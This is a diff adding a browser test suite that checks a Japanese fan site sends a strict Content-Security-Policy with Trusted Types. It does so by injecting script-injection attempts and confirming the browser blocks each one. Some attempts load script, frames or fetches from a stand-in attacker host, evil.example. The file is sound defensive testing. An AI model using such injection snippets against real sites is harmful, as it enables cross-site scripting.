@@ -1,0 +1,128 @@
+import { describe, expect, test } from 'vitest';
+import { createHash } from 'node:crypto';
+import { signIn } from './support/fan.ts';
+import { noMisdeeds, openGuarded } from './support/hostile-script.ts';
+import { useSite } from './support/use-site.ts';
+
+const site = useSite();
+
+/** The whole policy of a page; the style sheet of the theme that the page holds is admitted by its hash. */
+function policyFor(html: string): string {
+  const [, sheet] = /<style[^>]*>(.*?)<\/style>/s.exec(html) ?? [];
+  const hash = sheet === undefined ? '' : ` 'sha256-${createHash('sha256').update(sheet).digest('base64')}'`;
+  return [
+    "default-src 'none'",
+    "script-src 'self'",
+    `style-src 'self'${hash}`,
+    "img-src 'self' data: https:",
+    "font-src 'self'",
+    "manifest-src 'self'",
+    "connect-src 'self'",
+    "form-action 'self'",
+    "base-uri 'none'",
+    "object-src 'none'",
+    "frame-ancestors 'none'",
+    "require-trusted-types-for 'script'",
+    "trusted-types 'none'",
+  ].join('; ');
+}
+
+test.each(['/', '/login', '/terms', '/prizes', '/mypage', '/signup', '/nowhere', '/?lang=en', '/<script>', '/%00'])(
+  'every page has the policy: %s',
+  async (path) => {
+    const answer = await fetch(site.at(path), { redirect: 'manual' });
+    expect(answer.headers.get('content-security-policy')).toBe(policyFor(await answer.text()));
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+  },
+);
+
+describe('the browser refuses', () => {
+  const attempts: readonly [string, string, string][] = [
+    ['eval', 'eval("window.executed=1")', 'require-trusted-types-for trusted-types-sink'],
+    ['new Function', 'new Function("window.executed=1")()', 'require-trusted-types-for trusted-types-sink'],
+    ['a timer of text', 'setTimeout("window.executed=1")', 'require-trusted-types-for trusted-types-sink'],
+    ['innerHTML', 'document.body.innerHTML = "<b>x</b>"', 'require-trusted-types-for trusted-types-sink'],
+    [
+      'insertAdjacentHTML',
+      'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")',
+      'require-trusted-types-for trusted-types-sink',
+    ],
+    ['document.write', 'document.write("<b>x</b>")', 'require-trusted-types-for trusted-types-sink'],
+    [
+      'the text of a script',
+      's = document.createElement("script"); s.textContent = "window.executed=1"',
+      'require-trusted-types-for trusted-types-sink',
+    ],
+    [
+      'the address of a script',
+      's = document.createElement("script"); s.src = "https://evil.example/x.js"',
+      'require-trusted-types-for trusted-types-sink',
+    ],
+    ['a policy for trusted types', 'trustedTypes.createPolicy("default", {})', 'trusted-types trusted-types-policy'],
+    [
+      'an event handler',
+      'b = document.createElement("button"); b.setAttribute("onclick", "window.executed=1"); document.body.append(b); b.click()',
+      'require-trusted-types-for trusted-types-sink',
+    ],
+    [
+      'a style element',
+      's = document.createElement("style"); s.textContent = "body{display:none}"; document.head.append(s)',
+      'style-src-elem inline',
+    ],
+    [
+      'a frame',
+      'f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f)',
+      'frame-src https://evil.example',
+    ],
+    ['a call elsewhere', 'fetch("https://evil.example/").catch(() => {})', 'connect-src https://evil.example/'],
+    [
+      'another base',
+      'b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b)',
+      'base-uri https://evil.example',
+    ],
+    [
+      'a script address',
+      'a = document.createElement("a"); a.href = "javascript:window.executed=1"; document.body.append(a); a.click()',
+      'script-src-elem inline',
+    ],
+  ];
+
+  test.each(attempts)('%s', async (_what, code, refusal) => {
+    const { page, misdeeds } = await openGuarded(site);
+    await page.goto(site.at('/terms'));
+    const session = await page.context().newCDPSession(page);
+    await session.send('Runtime.evaluate', {
+      expression: `var s, b, f, a; try { ${code} } catch {}`,
+      allowUnsafeEvalBlockedByCSP: false,
+    });
+    await expect.poll(() => misdeeds.violations[0]).toBe(refusal);
+    expect({ ...misdeeds, violations: [] }).toEqual(noMisdeeds);
+  });
+});
+
+test('every page and dialog of the product keeps to the policy', async () => {
+  const { page, misdeeds, problems } = await openGuarded(site);
+  for (const path of ['/', '/login', '/terms', '/nowhere']) {
+    await page.goto(site.at(path), { waitUntil: 'networkidle' });
+    await page.getByRole('main').getByRole('heading').first().waitFor({ state: 'attached' });
+  }
+  await signIn(page, site, '陽菜☆ほしよみ');
+  for (const path of ['/', '/registered', '/mypage', '/prizes', '/point_histories']) {
+    await page.goto(site.at(path), { waitUntil: 'networkidle' });
+    await page.getByRole('main').getByRole('heading').first().waitFor({ state: 'attached' });
+  }
+  await page.goto(site.at('/prizes'));
+  const card = page.getByRole('listitem').filter({ hasText: '夜露のフラグメント' });
+  await card.getByRole('button', { name: '交換する' }).click();
+  await page.getByRole('dialog', { name: '景品と交換' }).getByRole('button', { name: 'つぎへ' }).click();
+  await page.getByRole('dialog', { name: 'いくつ交換しますか？' }).getByRole('button', { name: '交換する' }).click();
+  await page.getByRole('dialog', { name: '交換が完了しました' }).waitFor();
+  await page.keyboard.press('Escape');
+  await page.getByRole('button', { name: 'メニュー' }).click();
+  await page.getByRole('dialog', { name: 'メニュー' }).getByRole('button', { name: 'ログアウト' }).click();
+  const logout = page.getByRole('dialog', { name: 'ログアウトしますか？' });
+  await logout.getByRole('button', { name: 'ログアウト' }).click();
+  await page.getByText('ログアウトしました').waitFor();
+  expect(misdeeds).toEqual(noMisdeeds);
+  expect(problems.filter((problem) => !problem.includes('404'))).toEqual([]);
+});
